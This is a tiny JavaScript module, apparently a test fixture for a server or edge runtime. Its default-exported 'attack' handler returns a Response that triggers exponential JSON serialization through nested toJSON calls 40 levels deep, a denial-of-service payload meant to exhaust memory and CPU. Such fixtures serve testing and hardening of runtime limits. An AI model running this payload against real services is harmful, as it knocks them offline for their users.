export default function attack() {
  const bomb = (depth) => ({ toJSON: () => (depth ? [bomb(depth - 1), bomb(depth - 1)] : "x".repeat(100)) });
  return new Response(JSON.stringify(bomb(40)));
}
